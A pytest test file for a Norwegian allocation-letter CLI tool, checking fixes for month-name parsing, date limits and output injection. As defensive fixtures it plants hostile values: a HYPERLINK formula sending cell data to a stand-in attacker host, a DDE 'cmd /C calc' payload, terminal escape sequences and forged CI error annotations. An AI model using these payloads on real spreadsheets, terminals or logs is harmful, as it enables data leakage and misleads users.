"""Issue 11, punkt 5, 6, 7, 11 og 12 (modelldelen): verdier i data som kunne velte `tb`, lure et
regneark eller skrive rått til en terminal eller CI-logg.

- 5: månedsnavn med «ſ» (lang s) eller «İ» («15. deſember 2023») i en markør, i `frist_trykt`
  og i `tb frister --fra` ga «tuple.index»/TB900. Et treff uten hensyn til store og små
  bokstaver finner nå alltid igjen ordet i tabellen (`norsk.canonical`).
- 6: en tittel som begynner med «=», «+», «-», «@» eller tabulator ble en formel i
  `tb frister --format csv`. Slike celler får en apostrof foran.
- 7: `dato: 9999-12-31` velte `tb frister --format ics`, og en månedlig gjentakelse til 9999
  ga titusenvis av funn. Datoer utenfor 1989–2110 er TB004; en gjentakelse gir høyst
  `MAKS_FOREKOMSTER` datoer.
- 11 og 12: kontrolltegn (ESC, BEL, C1, tegn som snur skriveretningen) i all tekst, og linjeskift
  i tekst som skal stå på én linje (titler, navn, korte felt), er TB004; `tb frister` skriver
  data gjennom `text.safe_line`, og rich-tabellen tolker ikke «[…]» i data som markering.

Hver test kjører den ekte kommandolinja på en endret kopi av data/ der det går, og feiler uten
rettelsen.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from datetime import date
from pathlib import Path

import pytest
from icalendar import Calendar

from casekit import Run, run_tb
from tildelingsbrev.deadlines import MAKS_FOREKOMSTER, Deadline, occurrences
from tildelingsbrev.loading import MODELS, load, load_doc
from tildelingsbrev.model import GYLDIGE_DATOER
from tildelingsbrev.norsk import MÅNEDER, canonical, find_dates, parse_amount, parse_date
from tildelingsbrev.reporting import frister as agenda

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "data"

FINDING_RE = re.compile(
    r"^(?P<file>[^:\s]+):(?P<line>\d+):(?P<column>\d+): (?P<severity>feil|advarsel) "
    r"(?P<code>TB\d{3}) (?P<name>[^:\s]+): (?P<message>.*)$"
)
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
"""Kontrolltegn som aldri skal stå rått i utdata (tabulator og linjeskift er lov)."""


# ---------------------------------------------------------------- hjelpere


def tb(cwd: Path, *args: str) -> Run:
    """Kjør den ekte `tb` i en underprosess (en feil i `tb` vises som traceback: TB_DEBUG=1)."""
    (r,) = run_tb(cwd, args, timeout=120)
    assert "TB900" not in r.out, str(r)
    return r


def hits(stdout: str) -> list[dict]:
    return [m.groupdict() for ln in stdout.splitlines() if (m := FINDING_RE.match(ln))]


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """En kopi av data/ i tmp_path/data; `tb` kjøres fra tmp_path."""
    shutil.copytree(DATA, tmp_path / "data", symlinks=True)
    return tmp_path


def edit(path: Path, old: str, new: str) -> int:
    """Bytt `old` (som står nøyaktig én gang) mot `new`; returnerer linjenummeret (fra 1)."""
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1, f"«{old}» står {text.count(old)} ganger i {path}"
    path.write_text(text.replace(old, new), encoding="utf-8")
    return text[: text.index(old)].count("\n") + 1


def load_edited(rel: str, old: str, new: str) -> list:
    """Les én fil fra data/ med `old` byttet mot `new` slik innlesingen gjør; returnerer funnene."""
    from tildelingsbrev.loading.tree import file_kind

    text = (DATA / rel).read_text(encoding="utf-8")
    assert text.count(old) == 1, f"«{old}» står {text.count(old)} ganger i {rel}"
    raw = text.replace(old, new).encode("utf-8")
    doc, found = load_doc(DATA / rel, raw, MODELS[file_kind(Path(rel))], rel)
    return found


# ---------------------------------------------------------------- 5: månedsnavn med ſ og İ


def test_lang_s_i_en_markor_gir_ingen_intern_feil(work):
    """«{{ budsjettvedtak: 15. deſember 2023 }}» er 15. desember: ingen TB900 i check, ingen
    intern feil i render, og ingen funn (verdien stemmer)."""
    edit(work / "data/brev/2024/tekst/01-innledning.md", "15. desember 2023 }}", "15. deſember 2023 }}")
    check = tb(work, "check", "--format", "text")
    assert check.code == 0, str(check)
    render = tb(work, "render", "-o", str(work / "brev.md"))
    assert render.code == 0, str(render)
    assert (work / "brev.md").is_file()


def test_lang_s_og_prikket_i_i_frist_trykt_er_en_uvanlig_skrivemate(work):
    """`frist_trykt` med «deſember» eller «JUNİ»: datoen leses riktig (ingen TB306), og TB305
    melder at den ikke er skrevet vanlig (ikke TB900)."""
    f = work / "data/oppdrag/2024-02.yaml"
    edit(f, "  - dato: 2024-12-31\n", "  - dato: 2024-12-31\n  - dato: 2024-06-28\n")
    line = edit(f, "  31.12.2024\n", "  31. deſember 2024 og 28. JUNİ 2024\n")
    check = tb(work, "check", "--format", "text", "--no-baseline")
    mine = [h for h in hits(check.stdout) if h["file"].endswith("oppdrag/2024-02.yaml")]
    assert sorted((h["code"], int(h["line"])) for h in mine) == [("TB305", line), ("TB305", line)], str(check)
    assert "31.12.2024" in mine[0]["message"] + mine[1]["message"]
    assert "28.06.2024" in mine[0]["message"] + mine[1]["message"]


@pytest.mark.parametrize(
    "fra, iso",
    [
        ("1. deſember 2024", "2024-12-01"),
        ("1. DEſEMBER 2024", "2024-12-01"),
        ("3. JULİ 2024", "2024-07-03"),
        ("3. julİ 2024", "2024-07-03"),
        ("10. oKtober 2024", "2024-10-10"),  # «K» er kelvin-tegnet, som treffer «k»
    ],
)
def test_fra_med_lang_s_er_samme_dag(fra, iso):
    """`tb frister --fra '1. deſember 2024'` gir det samme som `--fra 2024-12-01` (før: «tuple.index»)."""
    odd = tb(ROOT, "frister", "--data", str(DATA), "--fra", fra, "--neste", "3m", "--format", "json")
    plain = tb(ROOT, "frister", "--data", str(DATA), "--fra", iso, "--neste", "3m", "--format", "json")
    assert odd.code == 0, str(odd)
    assert json.loads(odd.stdout) == json.loads(plain.stdout)


def _folding_variants(letter: str) -> list[str]:
    """Tegn utenfor ASCII som Python sin `re.IGNORECASE` lar treffe `letter` (ſ for s, İ for i,
    K for k, …)."""
    pattern = re.compile(re.escape(letter), re.IGNORECASE)
    return [chr(cp) for cp in range(0x80, 0x10000) if pattern.fullmatch(chr(cp))]


def test_hver_maned_med_hvert_tegn_som_treffer_finner_riktig_maned():
    """Den generelle klassen: for hvert månedsnavn og hver bokstav byttet mot hvert tegn
    `re.IGNORECASE` godtar for den, gir `find_dates` riktig måned (og aldri et unntak)."""
    variants = {ch: _folding_variants(ch) for ch in set("".join(MÅNEDER))}
    assert "ſ" in variants["s"] and "İ" in variants["i"]  # det issuen viste
    for nr, name in enumerate(MÅNEDER, 1):
        for i, ch in enumerate(name):
            for v in variants[ch] + [ch.upper()]:
                text = f"Frist 15. {name[:i]}{v}{name[i + 1 :]} 2024."
                found = find_dates(text)
                assert [d.value for d in found] == [date(2024, nr, 15)], text
                assert found[0].standard == (v == ch.upper()), text
                assert canonical(f"{name[:i]}{v}{name[i + 1 :]}", MÅNEDER) == name


def test_belop_med_prikket_i_i_enheten():
    """«25,2 MİLL. kroner» er 25,2 millioner (før: KeyError fra tabellen over enheter)."""
    for unit in ("MİLL.", "mİll", "MİLLİONER", "mİlliarder"):
        p = parse_amount(f"25,2 {unit} kroner")
        assert p is not None, unit
        assert p.value == (25_200_000 if "ar" not in unit else 25_200_000_000), unit


def test_belop_med_prikket_i_gjennom_kommandolinja(work):
    """En trykt sum med «MİLL.» i en kapittelfil er 25,2 millioner: ingen funn for kapitlet."""
    edit(work / "data/budsjett/2024/kap-601.yaml", "sum: 25200000", 'sum: "25,2 MİLL. kroner"')
    check = tb(work, "check", "--format", "text", "--no-baseline")
    assert not [h for h in hits(check.stdout) if "kap-601" in h["file"]], str(check)


# ---------------------------------------------------------------- 6: formler i CSV

FORMULA = re.compile(r"^[ \u00a0]*[=+\-@\t\r]")


def test_csv_har_ingen_celle_som_begynner_som_en_formel(work):
    f = work / "data/oppdrag/2024-02.yaml"
    edit(
        f,
        "tittel: Utvikle nasjonal veileder",
        """tittel: =HYPERLINK("http://angriper.example/?"&A1;"Klikk") Utvikle nasjonal veileder""",
    )
    edit(f, "  - dato: 2024-12-31\n", '  - dato: 2024-12-31\n    del: "+1+cmd|\' /C calc\'!A0"\n    merknad: "@SUM(1+1)"\n')
    edit(work / "data/oppdrag/2024-13.yaml", "  - del: Del I\n", '  - del: "\\t=1+1"\n')
    edit(work / "data/oppdrag/2024-04.yaml", "  - del: Del 1", '  - del: " -2+3"')
    run = tb(work, "frister", "--fra", "2020-01-01", "--format", "csv")
    assert run.code == 0 and not run.stderr, str(run)  # ingen fil er hoppet over
    rows = list(csv.reader(io.StringIO(run.stdout.removeprefix("\ufeff"), newline=""), delimiter=";"))
    bad = [c for r in rows for c in r if FORMULA.match(c)]
    assert not bad, bad
    cells = {c for r in rows for c in r}
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert "'+1+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells
    assert "'\t=1+1" in cells and "' -2+3" in cells
    assert all(re.fullmatch(r"-?\d+", r[2]) for r in rows[1:] if r[2])  # «dager» er tall


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "\u00a0@x"])
def test_spreadsheet_safe_noytraliserer_formelstart(value):
    assert agenda.spreadsheet_safe(value) == "'" + value
    assert agenda.spreadsheet_safe("Utvikle = veileder") == "Utvikle = veileder"
    assert agenda.spreadsheet_safe(-5) == -5


# ---------------------------------------------------------------- 7: år 9999 og gjentakelser


def test_ar_9999_er_en_verdifeil_og_ics_velter_ikke(work):
    f = work / "data/oppdrag/2024-02.yaml"
    line = edit(f, "  - dato: 2024-12-31\n", "  - dato: 9999-12-31\n")
    check = tb(work, "check", "--format", "text")
    mine = [h for h in hits(check.stdout) if h["file"].endswith("oppdrag/2024-02.yaml")]
    assert [(h["code"], int(h["line"]), int(h["column"])) for h in mine] == [("TB004", line, 11)], str(check)
    assert "31.12.9999" in mine[0]["message"] and "01.01.1989–31.12.2110" in mine[0]["message"]
    ics = tb(work, "frister", "--format", "ics")
    assert ics.code == 0, str(ics)
    assert "oppdrag/2024-02.yaml:" in ics.stderr and "hoppet over" in ics.stderr
    cal = Calendar.from_ical(ics.stdout)
    assert cal.walk("VEVENT")


@pytest.mark.parametrize(
    "rel, old, new",
    [
        ("oppdrag/2024-02.yaml", "  - dato: 2024-12-31\n", "  - dato: 0001-01-01\n"),
        ("oppdrag/2024-02.yaml", "  - dato: 2024-12-31\n", "  - datoer: [2024-12-31, 2111-01-01]\n"),
        ("oppdrag/2024-02.yaml", "  - dato: 2024-12-31\n", "  - dato: 2024-12-31\n    flyttet_fra: [1988-12-31]\n"),
        ("oppdrag/2024-01.yaml", "    fra: 2024-03-20\n", "    fra: 2024-03-20\n    til: 9999-12-31\n"),
        ("oppdrag/2024-02.yaml", "frist_trykt:", "status: levert\nlevert: 9999-01-01\nfrist_trykt:"),
        ("brev/2024/brev.yaml", "budsjettvedtak: 2023-12-15", "budsjettvedtak: 1066-10-14"),
        ("brev/2024/brev.yaml", "dato: null", "dato: 9999-12-31"),
        ("brev/2024/brev.yaml", "    dato: 2024-10-31\n", "    dato: 2999-10-31\n"),
    ],
)
def test_hvert_datofelt_har_grensen(rel, old, new):
    found = load_edited(rel, old, new)
    assert [f.code for f in found] == ["TB004"], found
    assert "ligger utenfor tidsrommet" in found[0].message and "01.01.1989–31.12.2110" in found[0].message


def test_grensene_er_med():
    first, last = GYLDIGE_DATOER
    # brevet for 1990 viser til budsjettvedtaket i 1989; en frist kan ligge ti år fram
    assert (first, last) == (date(1989, 1, 1), date(2110, 12, 31))
    for d in ("1989-01-01", "2110-12-31"):
        assert load_edited("oppdrag/2024-02.yaml", "  - dato: 2024-12-31\n", f"  - dato: {d}\n") == []


def test_manedlig_gjentakelse_til_2100_er_avgrenset(work):
    """Månedlig fra 2024 til 2100 ville gitt over 900 datoer; den gir `MAKS_FOREKOMSTER`, og merknaden
    sier at den er kappet. Funnene fra TB309 (fridag) er like avgrenset."""
    f = work / "data/oppdrag/2024-01.yaml"
    edit(f, "gjentas: tertialvis\n    fra: 2024-03-20\n", "gjentas: månedlig\n    fra: 2024-03-20\n    til: 2100-12-20\n")
    run = tb(work, "frister", "--fra", "2000-01-01", "--oppdrag", "2024-01", "--format", "json")
    rows = [r for r in json.loads(run.stdout) if r["oppdrag"] == "2024-01"]
    assert len(rows) == MAKS_FOREKOMSTER
    assert rows[0]["dato"] == "2024-03-20" and rows[-1]["dato"] == "2044-02-20"
    assert f"bare de {MAKS_FOREKOMSTER} første datoene er tatt med (til 20.02.2044)" in rows[0]["merknad"]
    check = tb(work, "check", "--format", "text", "--no-baseline")
    mine = [h for h in hits(check.stdout) if h["file"].endswith("oppdrag/2024-01.yaml")]
    assert 0 < len(mine) <= MAKS_FOREKOMSTER, str(check)


def test_occurrences_har_et_tak():
    assert len(occurrences("månedlig", date(1990, 1, 31), date(2100, 12, 31))) == MAKS_FOREKOMSTER
    assert len(occurrences("månedlig", date(2024, 1, 31), date(2024, 12, 31), limit=3)) == 3


def test_ics_velter_ikke_pa_siste_dag_python_kan():
    dl = Deadline(dato=date.max, tittel="Siste", type="levering", ident=("x",), source=None)
    cal = Calendar.from_ical(agenda.to_ics([dl], date(2024, 1, 1)))
    assert [str(e["summary"]) for e in cal.walk("VEVENT")] == ["Frist: Siste"]


# ---------------------------------------------------------------- 11 og 12: kontrolltegn og linjeskift

TITLE = "tittel: Utvikle nasjonal veileder for mottak av arbeidsinnvandrere og deres familier"


def test_esc_og_bel_i_en_tittel_er_en_verdifeil_og_skrives_aldri_ratt(work):
    """`tittel: "…\\e]0;pwned\\a…"` (YAML-escape forbi parseren): TB004 med tegnet vist som «\\x1b»,
    og ingen kommando skriver ESC eller BEL."""
    line = edit(work / "data/oppdrag/2024-02.yaml", TITLE, 'tittel: "Utvikle\\e]0;pwned\\a nasjonal veileder"')
    runs = [
        tb(work, "check", "--format", "text"),
        tb(work, "check", "--format", "github"),
        tb(work, "frister", "--fra", "2024-01-01"),
        tb(work, "frister", "--fra", "2024-01-01", "--format", "csv"),
        tb(work, "vis", "2024-02"),
        tb(work, "render", "-o", str(work / "brev.md")),
    ]
    for r in runs:
        # CSV-fila har CRLF mellom radene; ellers ingen kontrolltegn
        assert not RAW_CONTROL.search(r.out.replace("\r\n", "\n")), str(r)
    mine = [h for h in hits(runs[0].stdout) if h["file"].endswith("oppdrag/2024-02.yaml")]
    assert [(h["code"], int(h["line"])) for h in mine] == [("TB004", line)], str(runs[0])
    assert "kontrolltegn (\\x1b)" in mine[0]["message"]


def test_linjeskift_og_falsk_ci_merknad_i_en_tittel(work):
    """`tittel: "Utvikle\\n::error file=x::…"`: TB004 «én linje», og ingen linje i utdataene
    begynner med den forfalskede merknaden."""
    line = edit(
        work / "data/oppdrag/2024-02.yaml", TITLE, 'tittel: "Utvikle\\n::error file=x,line=1::forfalsket"'
    )
    runs = [
        tb(work, "check", "--format", "text"),
        tb(work, "check", "--format", "github"),
        tb(work, "frister", "--fra", "2024-01-01"),
        tb(work, "vis", "2024-02"),
    ]
    for r in runs:
        assert not re.search(r"(?m)^::error file=x", r.out), str(r)
    mine = [h for h in hits(runs[0].stdout) if h["file"].endswith("oppdrag/2024-02.yaml")]
    assert [(h["code"], int(h["line"])) for h in mine] == [("TB004", line)], str(runs[0])
    assert "én linje" in mine[0]["message"]


@pytest.mark.parametrize(
    "escape, shown",
    [
        ("\\e", "\\x1b"),
        ("\\x1b", "\\x1b"),
        ("\\a", "\\x07"),
        ("\\0", "\\x00"),
        ("\\r", "\\x0d"),
        ("\\x9b", "\\x9b"),  # C1 CSI
        ("\\N", "\\x85"),  # C1 NEL
        ("\\u202e", "\\u202e"),  # snur skriveretningen
        ("\\L", "\\u2028"),  # linjeskille
    ],
)
def test_kontrolltegn_gir_tb004(escape, shown):
    found = load_edited("oppdrag/2024-02.yaml", TITLE, f'tittel: "Utvikle{escape}veileder"')
    assert [f.code for f in found] == ["TB004"], found
    assert f"kontrolltegn ({shown}) som ikke er lov" in found[0].message
    assert not RAW_CONTROL.search(found[0].message)


ONE_LINE_FIELDS = [
    ("oppdrag/2024-02.yaml", TITLE, 'tittel: "Utvikle\\n::error::x"'),
    ("oppdrag/2024-02.yaml", TITLE, "tittel: |\n  Utvikle\n  ::error::x"),
    ("oppdrag/2024-02.yaml", TITLE, "tittel: >\n  Utvikle nasjonal veileder"),  # > gir linjeskift til slutt
    ("oppdrag/2024-13.yaml", "  - del: Del I\n", '  - del: "Del I\\n::error::x"\n'),
    ("oppdrag/2023-13.yaml", "    merknad: Halvårsrapportering", '    merknad: "Halvår\\n::error::x"'),
    ("oppdrag/2024-11.yaml", "samarbeid: [Bufdir]", 'samarbeid: ["Bufdir\\n::error::x"]'),
    ("brev/2024/brev.yaml", "  kortnavn: AID", '  kortnavn: "AID\\n::error::x"'),
    ("brev/2024/brev.yaml", "  - navn: Eli Telhaug", '  - navn: "Eli\\nTelhaug"'),
    ("brev/2024/brev.yaml", 'proposisjon: "Prop. 1 S (2023–2024)"', 'proposisjon: "Prop. 1 S\\n(2023–2024)"'),
    ("brev/2024/brev.yaml", "    tekst: tekst/01-innledning.md", '    tekst: "tekst/01-innledning.md\\n"'),
    ("brev/2024/brev.yaml", "  - id: mangfoldsrådgivere\n    tekst: Orientere", "  - id: mangfoldsrådgivere\n    tekst: |\n      x\n      Orientere"),
    ("budsjett/2024/671-60.yaml", "betegnelse: Integreringstilskudd", 'betegnelse: "Integrerings\\ntilskudd"'),
    ("budsjett/2024/671-60.yaml", "stikkord: [kan overføres]", 'stikkord: ["kan\\noverføres"]'),
    ("budsjett/2024/671-73.yaml", "    merknad: Midlene skal", '    merknad: "\\nMidlene skal'),
    ("mål/2024/mål-1.yaml", "tittel: Flere innvandrere", 'tittel: "Flere\\ninnvandrere'),
    ("styringsparametere/2024/sp-01.yaml", "tekst: Andel deltakere", 'tekst: "Andel\\ndeltakere'),
    ("baseline.yaml", "    gjelder: kap. 671 sum, differanse 3 030 002 000", '    gjelder: "kap. 671 sum,\\ndifferanse 3 030 002 000"'),
]


@pytest.mark.parametrize("rel, old, new", ONE_LINE_FIELDS, ids=[f"{r}:{n[:24]}" for r, _, n in ONE_LINE_FIELDS])
def test_linjeskift_i_felt_pa_en_linje_gir_tb004(rel, old, new):
    if new.count('"') % 2:  # en tekst i anførselstegn som skal lukkes på slutten av linja
        old_line = next(ln for ln in (DATA / rel).read_text(encoding="utf-8").splitlines() if ln.startswith(old))
        old, new = old_line, new + old_line[len(old) :] + '"'
    found = load_edited(rel, old, new)
    assert [f.code for f in found] == ["TB004"], found
    assert "teksten skal stå på én linje (inneholder linjeskift)" in found[0].message


def test_en_lang_tittel_over_flere_linjer_uten_blokktegn_er_en_linje():
    """En vanlig YAML-tekst som fortsetter på neste linje, blir én linje med mellomrom: godtatt."""
    assert load_edited("oppdrag/2024-02.yaml", TITLE, "tittel: Utvikle nasjonal\n  veileder") == []
    assert load_edited("oppdrag/2024-02.yaml", TITLE, "tittel: >-\n  Utvikle nasjonal\n  veileder") == []


@pytest.mark.parametrize(
    "rel, old, new",
    [
        ("mål/2024/mål-1.yaml", "tekst: |\n  Innvandreres", "tekst: |\n  Første avsnitt.\n\n  Innvandreres"),
        ("oppdrag/2024-02.yaml", "  31.12.2024\n", "  Del 1: 31.12.2024\n  Del 2: 31.12.2024\n"),
        ("oppdrag/2024-02.yaml", "frist_trykt:", "merknad: |\n  Første linje.\n  Andre linje.\nfrist_trykt:"),
    ],
)
def test_prosa_og_fristkolonnen_kan_ga_over_flere_linjer(rel, old, new):
    found = load_edited(rel, old, new)
    assert not [f for f in found if f.code == "TB004"], found


def test_prosa_kan_ikke_ha_kontrolltegn():
    found = load_edited("mål/2024/mål-1.yaml", "tekst: |\n  Innvandreres", 'tekst: "\\e[2J\\nInnvandreres"\nx: |\n  Innvandreres')
    assert "TB004" in [f.code for f in found]
    assert any("kontrolltegn (\\x1b)" in f.message for f in found)


def test_det_publiserte_brevet_har_ingen_nye_verdifeil():
    repo, found = load(DATA)
    assert not [f for f in found if f.code == "TB004"]
    assert len(repo.oppdrag) > 30


# ---------------------------------------------------------------- tabellen i tb frister


def _nasty() -> list[Deadline]:
    return [
        Deadline(
            dato=date(2024, 3, 1),
            tittel="Tittel\x1b]0;pwned\x07 [/] [link=https://angriper.example]klikk[/link]\n::error::x",
            type="levering",
            ident=("a",),
            source=None,
            oppdrag="2024-01",
            del_="Del\u202e1",
            merknad=":warning: [bold]",
        )
    ]


def test_ren_tekst_skriver_data_gjennom_safe_line():
    out = agenda.to_plain(_nasty(), date(2024, 1, 1))
    assert not RAW_CONTROL.search(out)
    assert "\\x1b]0;pwned\\x07" in out and "\\u202e" in out
    assert not re.search(r"(?m)^::error", out)
    assert len(out.splitlines()) == 2


def test_tabellen_i_en_terminal_tolker_ikke_data_som_markering(capsys):
    """I en terminal skriver `tb frister` en rich-tabell: «[/]» i en tittel ga MarkupError, og
    «[link=…]» ble en lenke. Cellene er tekst."""
    from tildelingsbrev.cli.frister import _print_table

    _print_table(agenda.table_rows(_nasty(), date(2024, 1, 1)))
    out = capsys.readouterr().out
    assert "[/]" in out and "[link=https://angriper.example]" in out and ":warning:" in out
    assert not RAW_CONTROL.search(out)


def test_parse_date_aldri_tuple_index():
    assert parse_date("1. deſember 2024").value == date(2024, 12, 1)
